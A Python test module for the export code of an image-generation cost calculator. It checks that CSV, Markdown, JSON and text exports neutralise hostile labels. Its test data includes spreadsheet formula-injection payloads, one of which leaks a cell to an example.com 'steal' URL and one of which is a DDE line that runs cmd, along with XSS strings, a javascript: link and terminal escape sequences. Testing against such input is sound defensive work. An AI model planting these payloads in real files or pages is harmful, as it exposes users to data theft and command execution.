"""The exports of an estimate whose labels, title and model names are hostile: the CSV runs in
no spreadsheet, the Markdown renders one table row per line and no HTML, the JSON keeps every
label exactly, the text fakes no line, and none of them fails to be written."""

from __future__ import annotations

import csv
import datetime as dt
import html.parser
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from imagine_calc.core.catalog.loader import bundled_files, load_catalog, load_override
from imagine_calc.core.catalog.records import Catalog
from imagine_calc.core.estimates.budget import Balances, plan_budget
from imagine_calc.core.estimates.estimate import Estimate, GenerationItem, PricedEstimate, price_estimate
from imagine_calc.core.outside_text import readable
from imagine_calc.core.pricing.requests import GenerationRequest
from imagine_calc.core.text.exports import (
    CSV_HEADER,
    export,
    export_bytes,
    kind_of,
    to_csv,
    to_json,
    to_markdown,
    to_text,
)
from tests.core.text.test_export_cells import runs

CATALOG = load_catalog()
LABELS = [
    '=HYPERLINK("http://example.com/steal?"&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "\x00=7*6",
    "x;=7*6;",
    "\t=1+1",
    "\r=1+1",
    "a\r\nb",
    "\ud800",
    "\udcff.png",
    "\x1b[2J\x1b]0;title\x07",
    "Hero\nTotal: 0 credits",
    "\u202eevil",
    "\x85\u2028\u2029",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a|b",
    "[click](javascript:alert(1))",
    "# heading",
    "Hero images",
]
HOSTILE_NAME = "=HYPERLINK(1)<img src=x onerror=alert(2)>"
TITLE = "<script>alert('title')</script>\r\n\x00\ud800"


def hostile_catalog() -> Catalog:
    """A model whose name (from an override) is HTML and a formula, with an unknown price."""
    model = {
        "id": "hostile",
        "name": HOSTILE_NAME,
        "description": "d",
        "price": None,
        "max_resolution": "1K",
        "aspect_ratios": ["1:1"],
        "unknown": {"price": "<b>\x00=7*6</b> not published"},
    }
    return load_override(bundled_files(), json.dumps({"models": [model]}), "hostile.yaml")


def estimate(labels: list[str], title: str = TITLE, catalog: Catalog = CATALOG) -> PricedEstimate:
    request = GenerationRequest("nano-banana-2", "1K", "1:1", 2, False)
    items = [GenerationItem(request, 3, label) for label in labels]
    if catalog is not CATALOG:
        items.append(GenerationItem(GenerationRequest("hostile"), 1, "plain label"))
    return price_estimate(catalog, Estimate(tuple(items), title))


def section(rows: list[list[str]], name: str) -> list[list[str]]:
    """The CSV's rows of one section: "line", "subtotal", "total" or "budget"."""
    return [row for row in rows[1:] if row[0] == name]


def test_csv_runs_nothing_and_keeps_numbers_numbers() -> None:
    catalog = hostile_catalog()
    text = to_csv(estimate(LABELS, catalog=catalog))
    rows = list(csv.reader(io.StringIO(text)))
    header, lines, total = rows[0], section(rows, "line"), section(rows, "total")
    assert header[:6] == ["section", "label", "what", "count", "credits_per_run", "credits"]
    assert len(lines) == len(LABELS) + 1 and all(len(row) == len(header) for row in rows)
    assert text.count("\r\n") == len(rows) and "\n" not in text.replace("\r\n", "")
    for row in rows[1:]:
        for cell in (row[1], row[2], *row[6:]):  # every text column
            assert not runs(cell), cell
    for row in lines[:-1]:
        assert int(row[3]) == 3 and Decimal(row[4]) == 98 and Decimal(row[5]) == 294
    hostile = lines[-1]
    assert hostile[1] == "plain label" and hostile[2].startswith("'" + HOSTILE_NAME)  # `what`
    assert "=7*6" in hostile[10] and not runs(hostile[10])  # the unknown reason
    assert total[0][1] == "Total" and Decimal(total[0][5]) == 294 * len(LABELS)
    assert rows[1][1] == '\'=HYPERLINK("http://example.com/steal?"&A1, "Click")'
    assert rows[3][1] == "'\\x00=7*6"
    # The hostile model's subtotal: its name and its reason are cells of their own, made safe too.
    hostile_subtotal = next(row for row in section(rows, "subtotal") if HOSTILE_NAME in row[1])
    assert hostile_subtotal[1] == "'" + HOSTILE_NAME and not runs(hostile_subtotal[10])


def test_the_csv_has_the_subtotals_the_total_and_the_budget_in_one_table() -> None:
    """One rectangular table a script filters by `section`; every figure keeps its bound."""
    catalog = hostile_catalog()
    priced = estimate(["Hero", "Drafts"], catalog=catalog)
    balances = Balances(True, Decimal(700), dt.date(2027, 1, 1), Decimal(50))
    plan = plan_budget(balances, priced)
    rows = list(csv.reader(io.StringIO(to_csv(priced, plan))))
    assert {len(row) for row in rows} == {len(CSV_HEADER)} and tuple(rows[0]) == CSV_HEADER
    assert [row[0] for row in rows[1:]] == ["line"] * 3 + ["subtotal"] * 3 + ["total"] + ["budget"] * 8
    assert [(r[1], r[2], Decimal(r[5]), r[6]) for r in section(rows, "subtotal")] == [
        ("Nano Banana 2", "by model", Decimal(588), "exact"),
        ("'" + HOSTILE_NAME, "by model", Decimal(0), "at_least"),
        ("Generation", "by kind", Decimal(588), "at_least"),
    ]
    # The hostile model's price is unknown: the balance is used at least as much, has at most
    # what is shown left, and so at most that would be lost; the top-up is emptied, exactly.
    assert [(r[1], r[2], Decimal(r[5]), r[6]) for r in section(rows, "budget")] == [
        ("Subscription credits", "available", Decimal(700), "exact"),
        ("Subscription credits", "used", Decimal(588), "at_least"),
        ("Subscription credits", "left", Decimal(112), "at_most"),
        ("Top-up credits", "available", Decimal(50), "exact"),
        ("Top-up credits", "used", Decimal(0), "at_least"),
        ("Top-up credits", "left", Decimal(50), "at_most"),
        ("Short", "credits no balance pays", Decimal(0), "at_least"),
        ("Lost at renewal", "subscription credits unspent on 2027-01-01", Decimal(112), "at_most"),
    ]
    without_budget = [row for row in rows if row[0] != "budget"]
    assert list(csv.reader(io.StringIO(to_csv(priced)))) == without_budget
    assert list(csv.reader(io.StringIO(export("csv", priced, catalog, plan)))) == rows  # the CLI's


class Rendered(html.parser.HTMLParser):
    """The tags and the visible text of each table cell, h1 and li of rendered HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: dict[str, list[str]] = {"td": [], "th": [], "h1": [], "li": []}
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in self.text:
            self._open = tag
            self.text[tag].append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._open:
            self._open = None

    def handle_data(self, data: str) -> None:
        if self._open:
            self.text[self._open][-1] += data


def render(markdown: str) -> Rendered:
    """As a renderer that passes HTML through (GitHub's own and many others do, then filter)."""
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    rendered = Rendered()
    rendered.feed(page)
    return rendered


def test_markdown_renders_one_row_per_line_and_no_html() -> None:
    catalog = hostile_catalog()
    priced = estimate(LABELS, catalog=catalog)
    shown = render(to_markdown(priced, catalog))
    assert shown.tags.count("tr") == len(priced.items) + 1  # the header and one row per line
    assert not {"script", "img", "a", "b", "h2"} & set(shown.tags)
    assert shown.tags.count("h1") == 1
    assert shown.text["h1"] == ["<script>alert('title')</script> \\x00\ufffd"]
    labels = shown.text["td"][:: len(shown.text["th"])]
    assert labels[LABELS.index("a|b")] == "a|b"
    assert labels[LABELS.index("a\r\nb")] == "a b"
    assert labels[LABELS.index("<img src=x onerror=alert(1)>")] == "<img src=x onerror=alert(1)>"
    assert labels[LABELS.index("[click](javascript:alert(1))")] == "[click](javascript:alert(1))"
    assert labels[LABELS.index("# heading")] == "# heading"
    # Subtotals and unknown parts name the model: each is one list item, as text.
    assert any(item.startswith(HOSTILE_NAME) for item in shown.text["li"])
    assert all("<" not in item or item.startswith(HOSTILE_NAME) or "<b>" in item for item in shown.text["li"])


def test_a_carriage_return_no_longer_splits_a_table_row() -> None:
    labels = [f"line {n}" for n in range(24)] + ["split\rhere", "and\r\nhere"]
    shown = render(to_markdown(estimate(labels), CATALOG))
    assert shown.tags.count("tr") == 27  # was 29: each CR began a row of its own


def test_json_keeps_every_label_exactly() -> None:
    """Exactly as the estimate holds it: a lone surrogate became U+FFFD when the line was made
    (core/estimates/estimate.py), so the export, the file and the window all agree."""
    catalog = hostile_catalog()
    text = to_json(estimate(LABELS, catalog=catalog), catalog)
    report = json.loads(text)
    assert [item["label"] for item in report["items"]] == [*map(readable, LABELS), "plain label"]
    assert report["items"][-1]["what"].startswith(HOSTILE_NAME)
    assert report["title"] == readable(TITLE)
    assert text.encode("utf-8")  # writable: the surrogates are \ud800 escapes
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\ud800-\udfff]", text)


def test_the_text_export_fakes_no_line() -> None:
    catalog = hostile_catalog()
    plain = to_text(estimate(["plain"] * len(LABELS), "title", catalog), catalog)
    hostile = to_text(estimate(LABELS, TITLE, catalog), catalog)
    assert len(hostile.splitlines()) == len(plain.splitlines())
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202e\ud800-\udfff]", hostile)
    assert "Hero\\nTotal: 0 credits" in hostile and "\\x1b[2J" in hostile


@pytest.mark.parametrize("kind", ["csv", "md", "json"])
def test_every_export_is_written_whatever_the_text(kind: str) -> None:
    catalog = hostile_catalog()
    priced = estimate(LABELS, catalog=catalog)
    data = export_bytes(kind, priced, catalog)
    assert data.decode("utf-8") == export(kind, priced, catalog)


def test_the_suffix_names_the_export() -> None:
    assert [kind_of(Path(n)) for n in ("a.csv", "b.MD", "c.Json", "d.txt", "e", "f.csv.bak")] == [
        "csv",
        "md",
        "json",
        None,
        None,
        None,
    ]


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.text(max_size=12))
def test_any_text_exports_to_every_format(labels: list[str], title: str) -> None:
    priced = estimate(labels, title)
    rows = list(csv.reader(io.StringIO(to_csv(priced))))
    assert len(section(rows, "line")) == len(labels) and not any(runs(row[1]) for row in rows)
    assert render(to_markdown(priced, CATALOG)).tags.count("tr") == len(labels) + 1
    report = json.loads(to_json(priced, CATALOG))
    assert [item["label"] or "Nano Banana 2" for item in report["items"]] == [
        label or "Nano Banana 2" for label in labels
    ]
    for kind in ("csv", "md", "json"):
        export(kind, priced, CATALOG).encode("utf-8")
    to_text(priced, CATALOG).encode("utf-8")
